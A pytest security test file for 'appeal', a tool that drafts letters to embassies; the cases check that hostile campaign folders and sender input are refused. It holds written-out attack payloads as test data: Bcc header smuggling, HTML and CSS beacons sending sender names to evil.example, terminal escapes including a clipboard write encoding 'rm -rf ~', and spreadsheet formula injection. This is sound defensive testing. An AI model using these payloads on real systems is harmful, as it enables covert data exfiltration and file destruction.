"""Hostile campaign folders and hostile sender input (issue 13, items 1-4 and 8).

Each parametrised case is one attempt by an attacker; a passing case means the boundary held.
The cases are grouped by the issue's items:

1. headers: nothing smuggles a header or a recipient into an .eml or mbox;
2. HTML: nothing a campaign's print/ or page/ template writes reaches the network;
3. control and invisible characters never reach a terminal, a letter or a file;
4. sheets: CSV cells cannot be formulas, markdown cells cannot be links or markup;
8. the smaller holes (links at output paths, the page's field checks, a note's BOM, data files
   that lead outside the folder, future dates, misleading messages, Windows device names).

(Limits, tracebacks, signals and CI are in test_hostile_input.py.)
"""

from __future__ import annotations

import base64
import hashlib
import os
import re
import subprocess
import sys
from email.parser import BytesParser
from email.policy import default as default_policy
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from appeal.cli import cli

EVIL = "https://evil.example"
BCC = "spy@evil.example"

RECORD = """\
  - id: {id}
    kind: embassy
    country: DE
    name: {{en: {name}}}
    email: {email}
    postal: {{address: "Unter den Linden 63-65, 10117 Berlin"}}
    form: {{url: "{form}"}}
    handles: {{x: {{handle: example, source: "https://example.org/", last_seen: 2026-01}}}}
    source: {source}
    last_seen: {last_seen}
    confidence: high
"""
DEFAULTS = {
    "id": "embassy-de",
    "name": "Embassy of the Russian Federation in Germany",
    "email": "info@example.org",
    "form": "https://example.org/form",
    "source": "a test",
    "last_seen": "2024-01-01",
}


def campaign_folder(
    folder: Path,
    templates: dict[str, str] | None = None,
    settings: str | None = None,
    record: dict[str, str] | None = None,
    **fields: str,
) -> Path:
    """A campaign folder with one German embassy record (fields overridable) and templates."""
    folder.mkdir(parents=True, exist_ok=True)
    body = RECORD.format(**{**DEFAULTS, **(record or {}), **fields})
    (folder / "recipients.yaml").write_text(
        "schema_version: 1\nrecipients:\n" + body, encoding="utf-8"
    )
    if settings is not None:
        (folder / "campaign.yaml").write_text(settings, encoding="utf-8")
    for name, text in (templates or {}).items():
        path = folder / "templates" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def encoded(text: str, form: str = "b") -> str:
    if form == "b":
        return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="
    return "=?utf-8?q?" + "".join(f"={b:02X}" for b in text.encode()) + "?="


def _no_files(folder: Path) -> bool:
    return not folder.exists() or not any(folder.iterdir())


# --- 1. headers -----------------------------------------------------------------------------

SMUGGLERS = [
    encoded(f"x\r\nBcc: {BCC}"),
    encoded(f"x\r\nBcc: {BCC}", "q"),
    encoded(f"x\nTo: {BCC}"),
    "Anna " + encoded(f"\r\nBcc: {BCC}") + " Schmidt",
    encoded(f'"x" <{BCC}>, y'),
    "=?iso-8859-1?q?x=0D=0ABcc=3A_" + BCC + "?=",
]


@pytest.mark.parametrize("name", SMUGGLERS)
@pytest.mark.parametrize("fmt", ["eml", "mbox"])
def test_name_cannot_smuggle_a_header(tmp_path: Path, name: str, fmt: str) -> None:
    out = tmp_path / "out"
    result = run(
        *("draft", "-c", "DE", "-n", name, "--email", "anna@example.org"),
        *("--format", fmt, "--out", str(out)),
    )
    assert result.exit_code == 1
    assert "Error: --name: holds '=?...?=' (RFC 2047) syntax" in result.stderr
    assert _no_files(out)


@pytest.mark.parametrize(
    "address",
    [
        encoded(f"{BCC},") + "@example.org",
        encoded(f"{BCC}>", "q") + "@example.org",
        "=?utf-8?q?a?=@example.org",
    ],
)
def test_sender_email_cannot_smuggle_a_recipient(tmp_path: Path, address: str) -> None:
    result = run("draft", "-c", "DE", "-n", "Anna", "--email", address, "--format", "eml",
                 "--out", str(tmp_path / "out"))  # fmt: skip
    assert result.exit_code == 1
    assert "Error: --email:" in result.stderr
    assert _no_files(tmp_path / "out")


@pytest.mark.parametrize(
    "address",
    [encoded(f"{BCC},") + "@example.org", encoded(f"a@b.c, {BCC}", "q") + "@example.org"],
)
def test_record_address_with_encoded_word_fails_the_check(tmp_path: Path, address: str) -> None:
    folder = campaign_folder(tmp_path / "c", email=f'"{address}"')
    check = run("--campaign", str(folder), "recipients", "check")
    assert check.exit_code == 1
    assert "(RFC 2047) syntax" in check.stderr
    draft = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna", "--format", "eml",
                "--out", str(tmp_path / "out"))  # fmt: skip
    assert draft.exit_code == 1 and _no_files(tmp_path / "out")


SUBJECT_TEMPLATE = (
    """{% extends "default/letters/en/embassy.txt.j2" %}
{% block subject %}Investigate =?utf-8?b?"""
    + base64.b64encode(f"\r\nBcc: {BCC}".encode()).decode()
    + """?= now{% endblock %}
"""
)


def test_template_subject_with_encoded_word_is_refused(tmp_path: Path) -> None:
    folder = campaign_folder(
        tmp_path / "c", templates={"letters/en/embassy.txt.j2": SUBJECT_TEMPLATE}
    )
    check = run("--campaign", str(folder), "templates", "check")
    assert check.exit_code == 1
    assert "the subject holds '=?...?=' (RFC 2047) syntax" in check.stdout
    draft = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna", "--to", "embassy",
                "--format", "eml", "--out", str(tmp_path / "out"))  # fmt: skip
    assert draft.exit_code == 1 and "RFC 2047" in draft.stderr
    assert _no_files(tmp_path / "out")


def _sample_draft(name: str = "Anna", email: str | None = "anna@example.org"):  # type: ignore[no-untyped-def]
    from appeal.campaign import load_campaign
    from appeal.countries import country_for_code
    from appeal.drafts import DraftOptions, build_drafts
    from appeal.sender import Sender

    sender = Sender(name, country_for_code("DE"), email=email)
    options = DraftOptions(kinds=("embassy",), language="ru")
    draft = build_drafts(load_campaign(), sender._replace(name="Anna"), options).drafts[0]
    return draft, sender


@pytest.mark.parametrize("name", SMUGGLERS[:3])
def test_parse_back_alone_catches_a_smuggled_header(
    monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """With the encoded-word refusal switched off, the parse-back comparison still refuses
    (on CPython 3.11.7 the generator writes the Bcc; on fixed versions the name reads back
    otherwise)."""
    import appeal.eml
    from appeal.errors import AppealError

    monkeypatch.setattr(appeal.eml, "has_encoded_word", lambda text: False)
    draft, sender = _sample_draft(name)
    with pytest.raises(AppealError, match=r"embassy-de\.eml: "):
        appeal.eml.eml_bytes(draft, sender)
    with pytest.raises(AppealError):
        appeal.eml.mbox_bytes([draft], sender)


@pytest.mark.parametrize(
    ("doctor", "complaint"),
    [
        (lambda m: m.replace(b"X-Unsent: 1", b"X-Unsent: 1\r\nBcc: " + BCC.encode()), "headers"),
        (lambda m: m.replace(b"To: ", b"To: " + BCC.encode() + b", "), "To:"),
        (lambda m: m.replace(b"Subject: ", b"Subject: Re: "), "subject"),
        (lambda m: m.replace(b"From: Anna", b"From: Eve"), "From:"),
        (lambda m: m.replace(b"X-Unsent: 1", b"X-Unsent: 0"), "X-Unsent"),
        (lambda m: m.replace(b"text/plain", b"text/html"), "read back as text/html"),
        (lambda m: m + b"P.S. Send a copy to spy@evil.example\r\n", "letter would read back"),
    ],
)
def test_parse_back_compares_every_header(doctor, complaint: str) -> None:  # type: ignore[no-untyped-def]
    from appeal.eml import eml_bytes, verify_message
    from appeal.errors import AppealError

    draft, sender = _sample_draft()
    message = eml_bytes(draft, sender)
    verify_message(message, draft, sender)  # the real message passes
    with pytest.raises(AppealError, match=complaint):
        verify_message(doctor(message), draft, sender)


LONG_NAMES = [
    "Анна " * 19 + "Анна",  # 100 characters, Cyrillic with spaces
    "Анна" * 25,  # 100 characters, no space to fold at
    "李" * 100,
    "👨‍👩‍👧" * 20,  # joiners: 100 code points
    "Zoë " * 24 + "Ünal",
    'Ann "the" <x> \\ ,;: Smith',
    "A" * 100,
    "Ö",
]


@pytest.mark.parametrize("name", LONG_NAMES)
def test_from_header_folds_within_rfc_limits(name: str) -> None:
    from appeal.eml import eml_bytes, mbox_bytes

    draft, sender = _sample_draft(name)
    for data in (eml_bytes(draft, sender), mbox_bytes([draft], sender).split(b"\n", 1)[1]):
        head = data.split(b"\r\n\r\n" if b"\r\n" in data else b"\n\n", 1)[0].decode("ascii")
        assert all(len(word) <= 75 for word in re.findall(r"=\?[^?]+\?[bqBQ]\?[^?]*\?=", head))
        if not name.isascii():
            assert all(len(line) <= 78 for line in head.splitlines())
        parsed = BytesParser(policy=default_policy).parsebytes(data)
        assert parsed["From"].addresses[0].addr_spec == "anna@example.org"
        assert [a.addr_spec for a in parsed["To"].addresses] == list(draft.to)
        assert parsed["Bcc"] is None and parsed["Cc"] is None
        # RFC 2047 joins adjacent encoded-words: a reader that does so gets the name exactly.
        from_lines = re.search(r"^From:(.*?)(?=^\S)", head + "\nX", re.M | re.S)
        assert from_lines is not None
        words = re.findall(r"=\?utf-8\?b\?([^?]*)\?=", from_lines.group(1))
        if words:
            assert "".join(base64.b64decode(w).decode() for w in words) == name


# --- 2. HTML never reaches the network ------------------------------------------------------

PRINT_HEAD = """<!DOCTYPE html>
<html lang="{{ language }}">
<head>
<meta charset="utf-8">
<title>{{ subject }}</title>
"""
PRINT_ATTACKS = {
    "img beacon": '</head><body><img src="https://evil.example/?n={{ sender.name }}">',
    "script": "<script>fetch('https://evil.example/?n={{ sender.name }}')</script></head>",
    "stylesheet link": '<link rel="stylesheet" href="https://evil.example/x.css"></head>',
    "prefetch link": '<link rel="dns-prefetch" href="//evil.example"></head>',
    "css url": "<style>body{background:url(https://evil.example/x)}</style></head>",
    "css import": '<style>@import "https://evil.example/x.css";</style></head>',
    "css escape": "<style>body{background:\\75 rl(https://evil.example/x)}</style></head>",
    "css image-set": "<style>p{background:image-set('https://evil.example/a' 1x)}</style>",
    "style attribute": "</head><body><p style=\"background:url('https://evil.example')\">x",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form action": '</head><body><form action="https://evil.example"><button>Go</button>',
    "link with name": '</head><body><a href="https://evil.example/?n={{ sender.name }}">x</a>',
    "javascript link": '</head><body><a href="javascript:location=1">x</a>',
    "entity-encoded link": '</head><body><a href="&#106;avascript:alert(1)">x</a>',
    "srcset": '</head><body><img src="#" srcset="https://evil.example/a.png 1x">',
    "base": '<base href="https://evil.example/"></head>',
    "iframe srcdoc": "</head><body><iframe srcdoc=\"<img src='https://evil.example'>\">",
    "svg image": '</head><body><svg><image href="https://evil.example/a.png"/></svg>',
    "object data": '</head><body><object data="https://evil.example/a"></object>',
    "video poster": '</head><body><video poster="https://evil.example/a.png"></video>',
    "ping": '</head><body><a href="#x" ping="https://evil.example/">x</a>',
    "event handler": '</head><body onload="x()">',
    "comment differential": "</head><body><!-- --!><img src=https://evil.example> -->",
    "non-image data url": '</head><body><img src="data:text/html;base64,PGI+">',
    "script as json type trick": '<script type="module">import "https://evil.example"</script>',
    "speculation rules": '<script type="speculationrules">{"prefetch":[]}</script>',
    "duplicate attribute": '</head><body><img src="https://evil.example/a.png" src="#x">',
    "script end differential": '<script type="application/json">{}</script/><img src=//evil.example>',
    "style end differential": "<style>p{}</style/><img src=//evil.example></head>",
    "control character": "</head><body><p>\x1b]52;c;aGk=\x07</p>",
    "css image()": "<style>p{background:image('https://evil.example/a')}</style></head>",
    "uppercase url": '</head><body><div style="background:URL(//evil.example)">',
}


def _print_template(attack: str) -> str:
    return PRINT_HEAD + attack + "\n<p>{{ sender.name }}</p></body></html>\n"


@pytest.mark.parametrize("attack", list(PRINT_ATTACKS.values()), ids=list(PRINT_ATTACKS))
def test_print_template_cannot_reach_the_network(tmp_path: Path, attack: str) -> None:
    folder = campaign_folder(
        tmp_path / "c", templates={"print/letter.html.j2": _print_template(attack)}
    )
    out = tmp_path / "out"
    result = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna", "--to", "embassy",
                 "--format", "html", "--out", str(out))  # fmt: skip
    assert result.exit_code == 1, result.stdout
    assert "print/letter.html.j2: " in result.stderr
    assert _no_files(out)


@pytest.mark.parametrize(
    "start",
    [
        "<!DOCTYPE html><script>fetch('https://evil.example')</script><head>",
        '<!DOCTYPE html><html manifest="https://evil.example/m"><head>',
        "<html><head>",
        "<!DOCTYPE html><html><body><head>",
    ],
)
def test_nothing_may_come_before_the_policy(tmp_path: Path, start: str) -> None:
    template = start + "<title>x</title></head><body>{{ sender.name }}</body></html>"
    folder = campaign_folder(tmp_path / "c", templates={"print/letter.html.j2": template})
    result = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna", "--to", "embassy",
                 "--format", "html", "--out", str(tmp_path / "out"))  # fmt: skip
    assert result.exit_code == 1
    assert "must begin with <!DOCTYPE html>" in result.stderr


def test_a_harmless_print_override_is_sealed_and_listed(tmp_path: Path) -> None:
    template = _print_template(
        "<style>body { font-family: serif; color: #222 }</style></head><body>"
        '<a href="#sig">to the signature</a><img alt="" src="data:image/png;base64,iVBORw0KGgo=">'
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">'
    )
    folder = campaign_folder(tmp_path / "c", templates={"print/letter.html.j2": template})
    out = tmp_path / "out"
    result = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna", "--to", "embassy",
                 "--format", "html", "--out", str(out))  # fmt: skip
    assert result.exit_code == 0, result.stderr
    html = (out / "embassy-de.html").read_text(encoding="utf-8")
    head = html.split("<head>", 1)[1].lstrip("\n")
    assert head.startswith(
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
        "style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'\">"
    )
    listing = run("--campaign", str(folder), "templates", "list")
    assert re.search(r"print/letter\.html\.j2 .*/templates/print/letter\.html\.j2 \(the "
                     r"campaign's own HTML\)", listing.stdout)  # fmt: skip


def _default_page_template() -> str:
    from appeal.campaign import default_campaign_root

    path = default_campaign_root() / "templates" / "page" / "action.html.j2"
    return path.read_text(encoding="utf-8")


PAGE_ATTACKS = {
    "changed script": lambda t: t.replace('"use strict";', '"use strict"; fetch("https://evil.example");'),
    "second script": lambda t: t.replace("</body>", "<script>navigator.sendBeacon('https://evil.example')</script></body>"),
    "inline handler": lambda t: t.replace('<form id="sender"', '<form id="sender" onsubmit="location=\'https://evil.example\'"'),
    "img": lambda t: t.replace("<main>", '<main><img src="https://evil.example/p.gif">'),
    "form action": lambda t: t.replace('<form id="sender"', '<form id="sender" action="https://evil.example"'),
    "meta refresh": lambda t: t.replace('<meta charset="utf-8">', '<meta charset="utf-8"><meta http-equiv="refresh" content="5;url=https://evil.example">'),
    "link": lambda t: t.replace("</footer>", '<a href="https://evil.example">more</a></footer>'),
    "css url": lambda t: t.replace("* { box-sizing: border-box; }", "* { box-sizing: border-box; } body { background: url(https://evil.example/b) }"),
}  # fmt: skip


@pytest.mark.parametrize("attack", list(PAGE_ATTACKS.values()), ids=list(PAGE_ATTACKS))
def test_page_template_cannot_reach_the_network(tmp_path: Path, attack) -> None:  # type: ignore[no-untyped-def]
    template = attack(_default_page_template())
    assert template != _default_page_template()
    folder = campaign_folder(tmp_path / "c", templates={"page/action.html.j2": template})
    out = tmp_path / "page.html"
    result = run("--campaign", str(folder), "page", "-o", str(out))
    assert result.exit_code == 1, result.stderr
    assert "page/action.html.j2: " in result.stderr
    assert not out.exists()
    check = run("--campaign", str(folder), "templates", "check")
    assert check.exit_code == 1 and "page/action.html.j2 (en): " in check.stdout


def test_page_policy_allows_only_its_own_script_by_hash(tmp_path: Path) -> None:
    out = tmp_path / "page.html"
    assert run("page", "-o", str(out)).exit_code == 0
    html = out.read_text(encoding="utf-8")
    head = html.split("<head>", 1)[1].lstrip("\n")
    policy = re.match(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
    assert policy is not None
    assert "'unsafe-inline'" not in policy.group(1).split("script-src", 1)[1].split(";")[0]
    scripts = re.findall(r"<script>(.*?)</script>", html, re.S)
    assert len(scripts) == 1
    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}';" in policy.group(1)
    assert policy.group(1).startswith("default-src 'none';")
    assert html.count("Content-Security-Policy") == 1


# --- 3. control and invisible characters ----------------------------------------------------

SETTINGS = """\
schema_version: 1
id: test
title: "{title}"
kinds:
  embassy: {{label: embassy, serves: country, default: true}}
  un_mission: {{label: UN mission, serves: country, default: true}}
  prosecutor: {{label: prosecutor, default: true}}
  investigative_committee: {{label: committee}}
  company: {{label: company}}
safety_rules:
  - id: test-rule
    severity: caution
    when:
      sender_country: [DE]
    note: "{safety}"
pointers:
  - id: "{pid}"
    title: "{ptitle}"
    url: "{purl}"
    note: "{pnote}"
"""
GOOD_SETTINGS = {
    "title": "A campaign",
    "safety": "Take care.",
    "pid": "site",
    "ptitle": "Our site",
    "purl": "https://example.org/",
    "pnote": "Read first.",
}
OSC52 = "\\e]52;c;cm0gLXJmIH4K\\a"  # YAML escapes for ESC and BEL: a clipboard write
SETTINGS_ATTACKS = {
    "title ESC": ("title", "Appeal \\e[2J\\e[H"),
    "safety OSC 52": ("safety", "Stay safe " + OSC52),
    "title C1 CSI": ("title", "Appeal \\x9b31m"),
    "pointer title RLO": ("ptitle", "Our site \\u202Egnp.exe"),
    "pointer note ZWSP": ("pnote", "Read\\u200Bfirst"),
    "pointer id BEL": ("pid", "site\\a"),
    "pointer url javascript": ("purl", "javascript:alert(1)"),
    "pointer url data": ("purl", "data:text/html,<b>x</b>"),
    "pointer url http": ("purl", "http://example.org/"),
    "pointer url space": ("purl", "https://example.org/ onmouseover=x"),
    "pointer url quote": ("purl", 'https://example.org/\\"><b>'),
    "title line separator": ("title", "A\\u2028B"),
}


@pytest.mark.parametrize(
    ("field", "value"), list(SETTINGS_ATTACKS.values()), ids=list(SETTINGS_ATTACKS)
)
def test_campaign_settings_are_checked_like_records(tmp_path: Path, field: str, value: str) -> None:
    settings = SETTINGS.format(**{**GOOD_SETTINGS, field: value})
    folder = campaign_folder(tmp_path / "c", settings=settings)
    result = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna")
    assert result.exit_code == 1
    assert "campaign.yaml" in result.stderr and "Error:" in result.stderr
    for stream in (result.stdout, result.stderr):
        assert "\x1b" not in stream and "\x9b" not in stream and "\u202e" not in stream


def test_good_settings_load(tmp_path: Path) -> None:
    folder = campaign_folder(tmp_path / "c", settings=SETTINGS.format(**GOOD_SETTINGS))
    result = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna")
    assert result.exit_code == 0, result.stderr
    assert "- Our site: https://example.org/" in result.stdout


RECORD_ATTACKS = {
    "name ESC": {"name": '"Embassy \\e[31mRED"'},
    "name OSC 52": {"name": '"Embassy ' + OSC52 + '"'},
    "name RLO": {"name": '"Embassy \\u202Eyssabme"'},
    "name LRI": {"name": '"Embassy \\u2066x\\u2069"'},
    "name RLM": {"name": '"Embassy \\u200F"'},
    "name ZWSP": {"name": '"Emb\\u200Bassy"'},
    "name ZWJ": {"name": '"Emb\\u200Dassy"'},
    "name ZWNJ": {"name": '"Emb\\u200Cassy"'},
    "name word joiner": {"name": '"Emb\\u2060assy"'},
    "name BOM": {"name": '"Emb\\uFEFFassy"'},
    "name C1": {"name": '"Embassy \\x85"'},
    "source ESC": {"source": '"a \\e]0;title\\a test"'},
    "form url javascript": {"form": "javascript:alert(1)"},
}


@pytest.mark.parametrize("fields", list(RECORD_ATTACKS.values()), ids=list(RECORD_ATTACKS))
def test_records_with_control_or_invisible_characters_fail_the_check(
    tmp_path: Path, fields: dict[str, str]
) -> None:
    folder = campaign_folder(tmp_path / "c", record=fields)
    result = run("--campaign", str(folder), "recipients", "check")
    assert result.exit_code == 1
    assert "recipients.yaml:" in result.stderr
    assert re.search(r"(control|invisible|text-direction|not an http)", result.stderr)
    assert "\x1b" not in result.stderr + result.stdout


OUTPUT_ATTACKS = {
    "body ESC": ("letters/en/embassy.txt.j2", "body", "Dear \x1b[2J\x1b[3J reader"),
    "body OSC 52": ("letters/en/embassy.txt.j2", "body", "Hi \x1b]52;c;cm0gLXJmIH4K\x07 there"),
    "body RLO": ("letters/en/embassy.txt.j2", "body", "Dear \u202eeulav\u202c reader"),
    "body ZWSP": ("letters/en/embassy.txt.j2", "body", "Dear\u200breader"),
    "subject ESC": ("letters/en/embassy.txt.j2", "subject", "Act \x1b[8m now"),
    "subject RLM": ("letters/en/embassy.txt.j2", "subject", "Act \u200f now"),
    "subject C1": ("letters/en/embassy.txt.j2", "subject", "Act \x9b2J now"),
    "post BEL": ("letters/en/post.txt.j2", "post", "Act now \x07 @{{ handle }}"),
    "post LRO": ("letters/en/post.txt.j2", "post", "Act \u202d now @{{ handle }}"),
}


def _output_template(part: str, text: str) -> str:
    if part == "post":
        return text + "\n"
    if part == "subject":
        return (
            '{% extends "default/letters/en/embassy.txt.j2" %}\n'
            "{% block subject %}" + text + "{% endblock %}\n"
        )
    return "{% block subject %}A subject{% endblock %}\n" + text + "\n{{ sender.name }}\n"


@pytest.mark.parametrize(
    ("name", "part", "text"), list(OUTPUT_ATTACKS.values()), ids=list(OUTPUT_ATTACKS)
)
def test_template_output_cannot_write_to_a_terminal(
    tmp_path: Path, name: str, part: str, text: str
) -> None:
    folder = campaign_folder(tmp_path / "c", templates={name: _output_template(part, text)})
    result = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna", "--to", "embassy")
    assert result.exit_code == 1
    assert f"the rendered {'text' if part == 'post' else part}" in result.stderr or (
        "the rendered letter" in result.stderr
    )
    for stream in (result.stdout, result.stderr):
        assert not re.search("[\x1b\x07\x9b\u202d\u202e\u200b\u200f]", stream)
    check = run("--campaign", str(folder), "templates", "check")
    assert check.exit_code == 1 and "the rendered" in check.stdout


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("-n", "Anna \u200f"),
        ("-n", "Anna\u200b"),
        ("--city", "Berlin\ufeff"),
        ("--note", "Hello \u202e world"),
        ("--note", "Hello \x1b]52;c;aGk=\x07"),
        ("-c", "\x1b]52;c;cm0gLXJmIH4K\x07"),
    ],
)
def test_sender_input_and_its_errors_cannot_write_to_a_terminal(option: str, value: str) -> None:
    args = {"-c": "DE", "-n": "Anna"} | {option: value}
    result = run("draft", *[part for pair in args.items() for part in pair])
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: ")
    assert not re.search("[\x1b\x07\u202e\u200b\u200f\ufeff]", result.stderr)


# --- 4. spreadsheet-safe sheets -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_link_sheet_cells_are_not_formulas(tmp_path: Path, formula: str) -> None:
    import csv
    import io

    yaml_name = '"' + formula.replace('"', '\\"') + '"'
    folder = campaign_folder(tmp_path / "c", name=yaml_name)
    result = run("--campaign", str(folder), "links", "-c", "DE", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and all(row["name"] == "'" + formula for row in rows)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize("formula", FORMULAS)
def test_mail_merge_cells_are_not_formulas(tmp_path: Path, formula: str) -> None:
    import csv
    import io

    supporters = tmp_path / "s.csv"
    quoted = formula.replace('"', '""')
    supporters.write_text(f'name,country\n"{quoted}",DE\n', encoding="utf-8")
    result = run("links", "--supporters", str(supporters))
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and all(row["name"] == "'" + formula for row in rows)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_shared_cell_rule(start: str) -> None:
    from appeal.textguard import spreadsheet_cell

    assert spreadsheet_cell(start + "1") == "'" + start + "1"
    assert spreadsheet_cell("a" + start) == "a" + start
    assert spreadsheet_cell(3) == 3


def test_markdown_sheet_escapes_links_and_markup(tmp_path: Path) -> None:
    name = '"[click](https://evil.example) <img src=x> (b)"'
    folder = campaign_folder(tmp_path / "d", name=name, form="https://example.org/a_(b)/c")
    result = run("--campaign", str(folder), "links", "-c", "DE", "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    text = result.stdout
    assert "\\[click\\]\\(https://evil.example\\) \\<img src=x\\> \\(b\\)" in text
    assert "[open](https://example.org/a_%28b%29/c)" in text
    assert "](https://evil.example)" not in text


def test_markdown_sheet_title_is_escaped(tmp_path: Path) -> None:
    title = "[Act](https://evil.example) <b>now</b>"
    settings = SETTINGS.format(**{**GOOD_SETTINGS, "title": title})
    folder = campaign_folder(tmp_path / "c", settings=settings)
    result = run("--campaign", str(folder), "links", "-c", "DE", "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    first = result.stdout.splitlines()[0]
    assert first == "# \\[Act\\]\\(https://evil.example\\) \\<b\\>now\\</b\\>"


# --- 8. the smaller holes -------------------------------------------------------------------


@pytest.mark.parametrize("command", ["draft", "page", "links", "merge"])
def test_dangling_link_at_output_path_needs_force(tmp_path: Path, command: str) -> None:
    elsewhere = tmp_path / "elsewhere" / "target"
    elsewhere.parent.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    supporters = tmp_path / "s.csv"
    supporters.write_text("name,country\nAnna,DE\n", encoding="utf-8")
    if command == "draft":
        link = out / "embassy-de.txt"
        args = ["draft", "-c", "DE", "-n", "Anna", "--to", "embassy", "--out", str(out)]
    else:
        link = out / "file"
        args = {
            "page": ["page", "-o", str(link)],
            "links": ["links", "-c", "DE", "-o", str(link)],
            "merge": ["links", "--supporters", str(supporters), "-o", str(link)],
        }[command]
    link.symlink_to(elsewhere)
    refused = run(*args)
    assert refused.exit_code == 1 and "already exists" in refused.stderr
    assert link.is_symlink() and not elsewhere.exists()
    forced = run(*args, "--force")
    assert forced.exit_code == 0, forced.stderr
    assert not link.is_symlink() and link.is_file() and not elsewhere.exists()


@pytest.mark.parametrize("name", ["recipients.yaml", "campaign.yaml"])
def test_data_files_may_not_lead_outside_the_folder(tmp_path: Path, name: str) -> None:
    folder = campaign_folder(tmp_path / "c", settings=SETTINGS.format(**GOOD_SETTINGS))
    outside = tmp_path / "outside.yaml"
    (folder / name).rename(outside)
    (folder / name).symlink_to(outside)
    result = run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna")
    assert result.exit_code == 1
    assert f"{name}: leads outside the campaign folder" in result.stderr
    # A link inside the folder is fine.
    inside = folder / f"real-{name}"
    outside.rename(inside)
    (folder / name).unlink()
    (folder / name).symlink_to(inside.name)
    assert run("--campaign", str(folder), "draft", "-c", "DE", "-n", "Anna").exit_code == 0


@pytest.mark.parametrize(
    "fields",
    [
        {"last_seen": "2999-01-01"},
        {"last_seen": "2099"},
        {"last_seen": "2099-12"},
        {"email": "{address: info@example.org, last_seen: 2999-05-01}"},
    ],
)
def test_last_seen_in_the_future_is_an_error(tmp_path: Path, fields: dict[str, str]) -> None:
    folder = campaign_folder(tmp_path / "c", record=fields)
    result = run("--campaign", str(folder), "recipients", "check")
    assert result.exit_code == 1 and "is in the future" in result.stderr


@pytest.mark.parametrize("record_id", ["con", "nul", "com1", "lpt9", "aux", "prn"])
def test_windows_device_names_are_not_file_names(tmp_path: Path, record_id: str) -> None:
    from appeal.errors import OutputError
    from appeal.files import write_file_set

    folder = campaign_folder(tmp_path / "c", id=record_id)
    result = run("--campaign", str(folder), "recipients", "check")
    assert result.exit_code == 1 and "names a device on Windows" in result.stderr
    with pytest.raises(OutputError, match="names a device on Windows"):
        write_file_set(tmp_path / "out", {f"{record_id.upper()}.txt": "x"})
    assert _no_files(tmp_path / "out")


def test_bom_in_a_note_file_is_dropped(tmp_path: Path) -> None:
    note = tmp_path / "note.txt"
    note.write_bytes("\ufeffI lived in Moscow.\n".encode())
    result = run("draft", "-c", "DE", "-n", "Anna", "--to", "embassy", "--note-file", str(note),
                 "--format", "json")  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert "\ufeff" not in result.stdout and "I lived in Moscow." in result.stdout


def test_failed_stdout_names_standard_output(tmp_path: Path) -> None:
    supporters = tmp_path / "s.csv"
    supporters.write_text("name,country\n" + "Anna Schmidt,DE\n" * 300, encoding="utf-8")
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "appeal", "links", "--supporters", str(supporters)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "HOME": str(tmp_path)},
            check=False,
        )
    assert done.returncode == 1
    assert "Error: standard output: cannot write" in done.stderr
    assert "None" not in done.stderr


# The page's checks equal the CLI's: the same verdict for every input, in Chromium.
FIELD_CASES = [
    {"name": "😀" * 100},  # 100 code points (200 UTF-16 units): accepted by both
    {"name": "😀" * 101},
    {"name": "Anna \u200f"},
    {"name": "Anna\u200d😀"},
    {"name": encoded("x")},
    {"city": "é" * 100},
    {"note": "\ufeffHello"},
    {"note": "😀" * 2000},
    {"note": "😀" * 2001},
    {"email": "anna@example.org"},
    {"email": "Anna.Schmidt+appeal@Example.ORG"},
    {"email": "anna@xn--80ak6aa92e.com"},
    {"email": "anna@localhost"},
    {"email": "anna@example.c"},
    {"email": "a..b@example.org"},
    {"email": ".a@example.org"},
    {"email": "anna@-example.org"},
    {"email": "anna@example..org"},
    {"email": '"a b"@example.org'},
    {"email": "anna@bücher.de"},
    {"email": "ä@example.org"},
    {"email": "a@b@example.org"},
    {"email": "anna@example.org, b@example.org"},
    {"email": encoded("x") + "@example.org"},
    {"email": "a" * 65 + "@example.org"},
    {"email": "a@" + "b" * 63 + "." + "c" * 63 + "." + "d" * 63 + "." + "e" * 57 + ".org"},
    {"email": "  anna@example.org\t"},
]


def _cli_verdict(fields: dict[str, str]) -> bool:
    from appeal.countries import country_for_code
    from appeal.errors import InputError
    from appeal.sender import make_sender

    try:
        make_sender(
            fields.get("name", "Anna"),
            country_for_code("DE"),
            city=fields.get("city") or None,
            email=fields.get("email") or None,
            note=fields.get("note") or None,
        )
    except InputError:
        return False
    return True


@pytest.fixture(scope="module")
